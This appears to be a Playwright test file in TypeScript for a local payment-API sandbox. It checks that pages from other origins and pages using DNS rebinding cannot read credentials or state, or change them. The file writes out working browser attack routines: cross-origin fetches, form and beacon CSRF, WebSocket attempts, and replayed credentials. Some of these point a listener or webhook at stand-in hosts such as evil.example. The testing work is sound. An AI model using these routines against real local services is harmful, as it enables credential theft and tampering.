/// <reference lib="dom" />
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "./page.js";

/** Attacks on a running sandbox by another page in the same browser, with every request that a browser allows. */

/** Other origins: the same machine by another name, and the same name with another port. */
for (const name of ["localhost", "127.0.0.1"]) {
  test(`a page of ${name} at another port reads nothing and changes nothing`, async ({
    sandbox,
    browser,
  }) => {
    const server = createServer((_, response) =>
      response.setHeader("content-type", "text/html").end("<!doctype html><title>Another page</title>"),
    );
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { control, url } = sandbox;
    await control.setClock({ mode: "frozen" });
    await sandbox.pay({ pixKey: sandbox.credentials.pixKey, value: 1 });
    const state = async () => {
      const [{ entries }, { now }] = await Promise.all([
        control.readJournal({ limit: 1000 }),
        control.showClock(),
      ]);
      const [{ requests }, account] = await Promise.all([
        control.listRequests({ limit: 100 }),
        control.showAccount({ id: 1 }),
      ]);
      return { entries, requests, now, account };
    };
    const before = await state();
    const script = /src="(\/sandbox\/assets\/[^"]+\.js)"/.exec(
      await (await fetch(`${url}/sandbox/`)).text(),
    )![1]!;

    const page = await browser.newPage();
    await page.goto(`http://${name}:${(server.address() as AddressInfo).port}/`);
    const got = await page.evaluate(attackFromOtherOrigin, { url, script });
    await page.close();
    server.closeAllConnections();
    server.close();

    expect(got).toEqual({
      "fetch /sandbox/api/credentials": "nothing",
      "fetch /sandbox/health": "nothing",
      "fetch /sandbox/api/state/export": "nothing",
      "fetch /sandbox/openapi.json": "nothing",
      "fetch /api/balance": "nothing",
      "fetch with JSON": "nothing",
      "fetch without reading": "nothing",
      "script of the API": "nothing",
      "script of the dashboard": "nothing",
      image: "nothing",
      "socket /sandbox/live": "nothing",
      "socket /sandbox/listen?to=http%3A%2F%2Fevil.example%2F&key=abc123": "nothing",
      form: "sent",
      beacon: "sent",
    });
    expect(await state()).toEqual(before);
  });
}

test("a page that uses DNS rebinding reads nothing and changes nothing", async ({
  sandbox,
  playwright,
  launchOptions,
}) => {
  const { port } = new URL(sandbox.url);
  const evil = `http://evil.test:${port}`;
  const rules = "--host-resolver-rules=MAP evil.test 127.0.0.1";
  const browser = await playwright.chromium.launch({
    ...launchOptions,
    args: [...(launchOptions.args ?? []), rules],
  });
  try {
    const page = await browser.newPage();
    const happened = async () => {
      const { entries } = await sandbox.control.readJournal({ limit: 1000 });
      const { requests } = await sandbox.control.listRequests({ limit: 100 });
      return { entries, requests };
    };
    const before = await happened();
    // This response is refused too, but the page now has that origin, and its name resolves to this machine.
    expect((await page.goto(`${evil}/api/balance`))?.status()).toBe(403);
    const got = await page.evaluate(attackByRebinding, sandbox.credentials);
    for (const [what, answer] of Object.entries(got)) {
      // Soft, so that one open endpoint does not hide another.
      expect
        .soft(answer.slice(0, 200), what)
        .toMatch(what.startsWith("socket") ? /^nothing$/ : /^403 .*"HOST_NOT_LOCAL"/);
    }
    expect(Object.keys(got)).toHaveLength(12);
    expect(await happened()).toEqual(before);
    expect(await sandbox.control.listSnapshots()).toEqual({ snapshots: [] });
  } finally {
    await browser.close();
  }
});

/** Runs in the page whose name resolves to the sandbox: the browser allows it to read every response. */
async function attackByRebinding({
  clientId,
  clientSecret,
  certificateHeader,
}: {
  clientId: string;
  clientSecret: string;
  certificateHeader: string;
}): Promise<Record<string, string>> {
  const got: Record<string, string> = {};
  // The seeded credentials are public: only the check of the Host header keeps such a page from getting a token.
  const json = {
    "content-type": "application/json",
    authorization: `Basic ${btoa(`${clientId}:${clientSecret}`)}`,
    "x-ssl-client-cert": certificateHeader,
  };
  const calls: [method: string, path: string, body?: string][] = [
    ["GET", "/sandbox/"],
    ["GET", "/sandbox/health"],
    ["GET", "/sandbox/api/credentials"],
    ["GET", "/sandbox/api/state/export"],
    ["POST", "/sandbox/api/clock/advance", '{"by":"1h"}'],
    ["POST", "/sandbox/api/state/reset", "{}"],
    ["POST", "/sandbox/api/state/snapshots", '{"name":"evil"}'],
    ["POST", "/oauth/token", "{}"],
    ["POST", "/api/webhook", '{"url":"https://evil.test/"}'],
    ["GET", "/api/balance"],
  ];
  for (const [method, path, body] of calls) {
    const answer = await fetch(path, { method, headers: json, ...(body ? { body } : {}) });
    got[`${method} ${path}`] = `${answer.status} ${await answer.text()}`;
  }
  for (const path of ["/sandbox/live", "/sandbox/listen?to=http%3A%2F%2Fevil.test%2F&key=abc123"]) {
    got[`socket ${path}`] = await new Promise((resolve) => {
      const socket = new WebSocket(`ws://${location.host}${path}`);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("nothing");
    });
  }
  return got;
}

/** Runs in the page of another origin. Returns the result of each attempt by its name. */
async function attackFromOtherOrigin({
  url,
  script,
}: {
  url: string;
  script: string;
}): Promise<Record<string, string>> {
  const got: Record<string, string> = {};
  const read = async (what: string, path: string, options?: RequestInit) => {
    got[what] = await fetch(url + path, options).then(
      async (answer) => (await answer.text()) || "nothing",
      () => "nothing",
    );
  };
  for (const path of [
    ...["/sandbox/api/credentials", "/sandbox/health", "/sandbox/api/state/export", "/sandbox/openapi.json"],
    "/api/balance",
  ]) {
    await read(`fetch ${path}`, path, { credentials: "include" });
  }
  const body = JSON.stringify({ by: "1h" });
  const json = { "content-type": "application/json" };
  await read("fetch with JSON", "/sandbox/api/clock/advance", { method: "POST", headers: json, body });
  await read("fetch without reading", "/sandbox/api/clock/advance", {
    method: "POST",
    mode: "no-cors",
    body,
  });

  const tag = (what: string, name: "script" | "img", path: string) =>
    new Promise<void>((resolve) => {
      const element = document.createElement(name);
      element.onload = () => {
        got[what] = "loaded";
        resolve();
      };
      element.onerror = () => {
        got[what] = "nothing";
        resolve();
      };
      element.src = url + path;
      document.body.append(element);
    });
  await tag("script of the API", "script", "/sandbox/api/credentials");
  await tag("script of the dashboard", "script", script);
  await tag("image", "img", "/sandbox/api/transactions");

  for (const path of ["/sandbox/live", "/sandbox/listen?to=http%3A%2F%2Fevil.example%2F&key=abc123"]) {
    got[`socket ${path}`] = await new Promise((resolve) => {
      const socket = new WebSocket(url.replace("http", "ws") + path);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("nothing");
    });
  }

  // The browser always sends a form and a beacon; the test checks that they have no effect.
  const frame = document.createElement("iframe");
  frame.name = "answer";
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {
    method: "POST",
    enctype: "text/plain",
    target: "answer",
    action: `${url}/sandbox/api/state/reset`,
  });
  document.body.append(form);
  await new Promise<void>((resolve) => {
    frame.onload = () => resolve();
    form.submit();
  });
  got.form = "sent";
  got.beacon = navigator.sendBeacon(`${url}/sandbox/api/clock/advance`, body) ? "sent" : "not sent";
  // If each of these refusals were recorded, they would push the tester's own requests out of the record.
  for (const path of ["/oauth/token", "/api/balance", "/nowhere"]) {
    await fetch(url + path, { method: "POST", mode: "no-cors", body }).catch(() => "nothing");
  }
  await fetch(`${url}/sandbox/health`, { mode: "no-cors" });
  return got;
}
